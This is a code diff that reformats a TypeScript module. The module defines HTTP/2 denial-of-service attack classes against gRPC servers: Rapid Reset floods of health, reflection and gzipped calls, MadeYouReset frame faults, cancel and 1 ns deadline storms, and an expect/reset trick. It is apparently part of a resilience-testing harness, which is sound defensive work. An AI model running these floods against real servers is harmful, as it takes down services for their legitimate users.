@@ -2,8 +2,31 @@ import { gzipSync } from "node:zlib";
 import type { Attack } from "../attack.js";
 import type { AttackClass } from "../attack-class.js";
 import type { RawConnection } from "../raw/connection.js";
-import { data, END_HEADERS, END_STREAM, frame, FrameType, headers, MAX_WINDOW, repeated, reset, uint32, windowUpdate } from "../raw/frames.js";
-import { CHECK, CHECK_PATH, EMPTY_MESSAGE, field, grpcMessage, HEALTH_CHECK_PATH, HEALTH_WATCH_PATH, REFLECTION_PATH, requestBlock, shortBlocks } from "../raw/requests.js";
+import {
+  data,
+  END_HEADERS,
+  END_STREAM,
+  frame,
+  FrameType,
+  headers,
+  MAX_WINDOW,
+  repeated,
+  reset,
+  uint32,
+  windowUpdate,
+} from "../raw/frames.js";
+import {
+  CHECK,
+  CHECK_PATH,
+  EMPTY_MESSAGE,
+  field,
+  grpcMessage,
+  HEALTH_CHECK_PATH,
+  HEALTH_WATCH_PATH,
+  REFLECTION_PATH,
+  requestBlock,
+  shortBlocks,
+} from "../raw/requests.js";
 
 const CONNECTIONS = 8;
 const CALLS_A_WRITE = 100;
@@ -17,14 +40,29 @@ const ANSWER_PATIENCE_MS = 30_000;
 const LIST_SERVICES = grpcMessage(field(7, "*"));
 
 /** Calls that are reset in the same write that begins them. @param body undefined: only their headers are sent */
-function rapidReset(path: string, { body, isEnded = false, more = [] }: { readonly body?: Buffer; readonly isEnded?: boolean; readonly more?: readonly (readonly [string, string])[] } = {}) {
+function rapidReset(
+  path: string,
+  {
+    body,
+    isEnded = false,
+    more = [],
+  }: {
+    readonly body?: Buffer;
+    readonly isEnded?: boolean;
+    readonly more?: readonly (readonly [string, string])[];
+  } = {},
+) {
   const { first, later } = shortBlocks(path, more);
   return (attack: Attack) =>
     attack.flood({ connections: CONNECTIONS, hasInnocent: true }, (connection) => {
       const isFirst = connection.nextStream === 3;
       return repeated(CALLS_A_WRITE, (index) => {
         const stream = connection.takeStream();
-        const begin = headers(stream, isFirst && index === 0 ? first : later, isEnded ? END_HEADERS | END_STREAM : END_HEADERS);
+        const begin = headers(
+          stream,
+          isFirst && index === 0 ? first : later,
+          isEnded ? END_HEADERS | END_STREAM : END_HEADERS,
+        );
         return Buffer.concat([begin, ...(body === undefined ? [] : [data(stream, body, END_STREAM)]), reset(stream)]);
       });
     });
@@ -38,7 +76,11 @@ function madeYouReset(fault: (stream: number) => Buffer, hasInnocent: boolean) {
       const isFirst = connection.nextStream === (hasInnocent ? 3 : 1);
       return repeated(CALLS_A_WRITE, (index) => {
         const stream = connection.takeStream();
-        return Buffer.concat([headers(stream, isFirst && index === 0 ? first : later), data(stream, EMPTY_MESSAGE, END_STREAM), fault(stream)]);
+        return Buffer.concat([
+          headers(stream, isFirst && index === 0 ? first : later),
+          data(stream, EMPTY_MESSAGE, END_STREAM),
+          fault(stream),
+        ]);
       });
     });
 }
@@ -98,25 +140,63 @@ async function expectAndReset(attack: Attack): Promise<void> {
 
 export const RESETS: readonly AttackClass[] = [
   { name: "rapid-reset", title: "Rapid Reset: a check's headers and RST_STREAM", run: rapidReset(CHECK_PATH) },
-  { name: "rapid-reset-answered", title: "Rapid Reset of complete checks", run: rapidReset(CHECK_PATH, { body: CHECK }) },
-  { name: "rapid-reset-health", title: "Rapid Reset of Health/Check", run: rapidReset(HEALTH_CHECK_PATH, { isEnded: true }) },
-  { name: "rapid-reset-watch", title: "Rapid Reset of Health/Watch, a stream of answers", run: rapidReset(HEALTH_WATCH_PATH, { body: EMPTY_MESSAGE }) },
-  { name: "rapid-reset-reflection", title: "Rapid Reset of server reflection", run: rapidReset(REFLECTION_PATH, { body: LIST_SERVICES }) },
+  {
+    name: "rapid-reset-answered",
+    title: "Rapid Reset of complete checks",
+    run: rapidReset(CHECK_PATH, { body: CHECK }),
+  },
+  {
+    name: "rapid-reset-health",
+    title: "Rapid Reset of Health/Check",
+    run: rapidReset(HEALTH_CHECK_PATH, { isEnded: true }),
+  },
+  {
+    name: "rapid-reset-watch",
+    title: "Rapid Reset of Health/Watch, a stream of answers",
+    run: rapidReset(HEALTH_WATCH_PATH, { body: EMPTY_MESSAGE }),
+  },
+  {
+    name: "rapid-reset-reflection",
+    title: "Rapid Reset of server reflection",
+    run: rapidReset(REFLECTION_PATH, { body: LIST_SERVICES }),
+  },
   {
     name: "rapid-reset-gzip",
     title: "Rapid Reset of gzipped checks",
-    run: rapidReset(CHECK_PATH, { body: grpcMessage(gzipSync(CHECK.subarray(5)), true), more: [["grpc-encoding", "gzip"]] }),
+    run: rapidReset(CHECK_PATH, {
+      body: grpcMessage(gzipSync(CHECK.subarray(5)), true),
+      more: [["grpc-encoding", "gzip"]],
+    }),
   },
-  { name: "made-you-reset-overflow", title: "MadeYouReset: a stream's window overflows", run: madeYouReset((stream) => windowUpdate(stream, MAX_WINDOW), true) },
-  { name: "made-you-reset-zero", title: "MadeYouReset: WINDOW_UPDATE of 0", run: madeYouReset((stream) => windowUpdate(stream, 0), true) },
-  { name: "made-you-reset-data", title: "MadeYouReset: DATA behind the end", run: madeYouReset((stream) => data(stream, Buffer.of(0)), false) },
+  {
+    name: "made-you-reset-overflow",
+    title: "MadeYouReset: a stream's window overflows",
+    run: madeYouReset((stream) => windowUpdate(stream, MAX_WINDOW), true),
+  },
+  {
+    name: "made-you-reset-zero",
+    title: "MadeYouReset: WINDOW_UPDATE of 0",
+    run: madeYouReset((stream) => windowUpdate(stream, 0), true),
+  },
+  {
+    name: "made-you-reset-data",
+    title: "MadeYouReset: DATA behind the end",
+    run: madeYouReset((stream) => data(stream, Buffer.of(0)), false),
+  },
   {
     name: "made-you-reset-priority",
     title: "MadeYouReset: a stream that depends on itself",
-    run: madeYouReset((stream) => frame(FrameType.Priority, 0, stream, Buffer.concat([uint32(stream), Buffer.of(0)])), false),
+    run: madeYouReset(
+      (stream) => frame(FrameType.Priority, 0, stream, Buffer.concat([uint32(stream), Buffer.of(0)])),
+      false,
+    ),
   },
   { name: "cancel-storm", title: "300 callers through one connection, 9 of 10 calls cancelled", run: cancelStorm },
   { name: "deadline-storm", title: "Checks with a deadline of 1 ns", run: deadlineStorm(CHECK_PATH, CHECK) },
-  { name: "deadline-storm-watch", title: "Health/Watch with a deadline of 1 ns", run: deadlineStorm(HEALTH_WATCH_PATH, EMPTY_MESSAGE) },
+  {
+    name: "deadline-storm-watch",
+    title: "Health/Watch with a deadline of 1 ns",
+    run: deadlineStorm(HEALTH_WATCH_PATH, EMPTY_MESSAGE),
+  },
   { name: "expect-reset", title: "expect: 100-continue and RST_STREAM in one write", run: expectAndReset },
 ];
